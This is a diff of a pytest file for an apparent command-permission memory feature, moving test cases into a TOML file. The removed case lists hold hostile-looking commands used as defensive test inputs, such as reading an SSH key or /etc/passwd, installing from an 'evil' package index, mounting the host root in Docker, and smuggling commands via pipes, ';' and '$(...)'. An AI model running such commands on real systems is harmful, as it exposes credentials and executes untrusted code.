@@ -1,124 +1,31 @@
 """What "don't ask again" remembers of a command."""
 
 import itertools
+import tomllib
+from pathlib import Path
 
 import pytest
 from command_table import judged
 
+CASES = tomllib.loads(Path(__file__).with_suffix(".toml").read_text("utf-8"))
 
-@pytest.mark.parametrize(
-    ("command", "pattern"),
-    [
-        ("ls -la src", "ls -a -l"),
-        ("ls", "ls"),
-        ("cat a.ts", "cat"),
-        ("cat /project/a.ts src/b.ts", "cat"),
-        ("grep -rn x src", "grep -n -r"),
-        ("grep -A 3 x a.ts", "grep -A"),
-        ("git add a.ts b.ts", "git add"),
-        ("git commit -qm 'one thing'", "git commit -m -q"),
-        ("cargo test name", "cargo test"),
-        ("go test ./...", "go test"),
-    ],
-)
+
+@pytest.mark.parametrize(("command", "pattern"), CASES["of_a_listed_use_the_sort_is_remembered"])
 def test_of_a_listed_use_the_sort_is_remembered(command: str, pattern: str) -> None:
     assert judged(command).pattern == pattern
 
 
-@pytest.mark.parametrize(
-    "command",
-    [
-        "cat /etc/hostname",
-        "cat a.ts /etc/hostname",
-        "cat ../other/a.ts",
-        "cat src/../../a.ts",
-        "grep --include=../x y a",
-        "cat '~/.ssh/id_rsa'",
-        "git add ../other/a.ts",
-        "go test /other",
-    ],
-)
+@pytest.mark.parametrize("command", CASES["nothing_is_remembered_of_a_listed_use_outside"])
 def test_nothing_is_remembered_of_a_listed_use_outside(command: str) -> None:
     assert judged(command).pattern is None
 
 
-@pytest.mark.parametrize(
-    "command",
-    [
-        "npm install left-pad",
-        "npm run build -- --x",
-        "node scripts/a.js 1 2",
-        "node -e '1'",
-        "mv a b",
-        "npm install; ls",
-        "npm install > out",
-        "FOO=1 npm install",
-        "make",
-        "make build CC=gcc",
-        "mv a ../b",
-        "docker run box -v /:/host",
-        "docker exec box ls",
-        "git push origin main",
-        "git push --receive-pack=x origin",
-        "git rebase -x 'make' main",
-        "git -c a.b=c pull",
-        "uv run python a.py 1",
-        "npx prettier --write a.ts",
-        "npm test && ls",
-        "npm testx",
-        "npm test",
-        "'npm' te\"st\" src",
-        "grep -R x .",
-        "grep -rR x .",
-        "grep --dereference-recursive x .",
-        "grep -f/etc/passwd x",
-        "grep -r x *",
-        "cat a*",
-        "cat {a,b}",
-        "ls -RL .",
-        "tail --pid=1 a",
-        "file -C -m a",
-        "wc --files0-from=a",
-        "git add -f a",
-        "git add ':(top)x'",
-        "git add :/x",
-        "git add a ':!b'",
-        "git add --pathspec-from-file=a",
-        "git commit",
-        "git commit -m x a.ts",
-        "git commit -m x --no-verify",
-        "git commit -a -m x",
-        "git commit -m",
-        "cargo test --config a.b=c",
-        "cargo run x",
-        "go test -exec ./x",
-        "go run x.go",
-    ],
-)
+@pytest.mark.parametrize("command", CASES["everything_else_is_remembered_as_a_whole"])
 def test_everything_else_is_remembered_as_a_whole(command: str) -> None:
     assert judged(command).pattern == command
 
 
-@pytest.mark.parametrize(
-    ("allowed", "other"),
-    [
-        ("git bisect start", "git bisect run sh evil.sh"),
-        ("git push origin main", "git push git@other:x main"),
-        ("git config user.name", "git config core.sshCommand ./evil"),
-        ("git stash list", "git stash clear"),
-        ("git submodule status", "git submodule foreach ./evil"),
-        ("git checkout main", "git checkout ."),
-        ("git worktree list", "git worktree add ../x"),
-        ("grep -r x a.txt", "grep -R x ."),
-        ("npm install left-pad", "npm install ./evil"),
-        ("npm run build", "npm run build -- --config evil.js"),
-        ("pip install x", "pip install --index-url http://evil x"),
-        ("docker run a", "docker run -v /:/host a"),
-        ("node a.js", "node a.js --delete"),
-        ("make build", "make build SHELL=./evil"),
-        ("uv add x", "uv add --script x"),
-    ],
-)
+@pytest.mark.parametrize(("allowed", "other"), CASES["a_permission_does_not_cover_another_deed"])
 def test_a_permission_does_not_cover_another_deed(allowed: str, other: str) -> None:
     assert judged(allowed).pattern != judged(other).pattern
 
@@ -178,26 +85,7 @@ def test_no_two_of_150_subcommands_share_a_permission() -> None:
     assert shared == []
 
 
-@pytest.mark.parametrize(
-    "other",
-    [
-        "npm test && rm x",
-        "npm test; rm x",
-        "npm test | sh",
-        "npm test > package.json",
-        "npm test $(rm x)",
-        "npm test\nrm x",
-        "npm testx",
-        "npm tests",
-        "npm 'test x'",
-        "npmx test",
-        "A=1 npm test",
-        "env npm test",
-        "npm --prefix .. test",
-        "npm test --script-shell=./x",
-        "cd .. && npm test",
-    ],
-)
+@pytest.mark.parametrize("other", CASES["no_other_command_is_of_the_sort_of_npm_test"])
 def test_no_other_command_is_of_the_sort_of_npm_test(other: str) -> None:
     assert judged("npm test").pattern == "npm test"
     assert judged(other).pattern != "npm test"
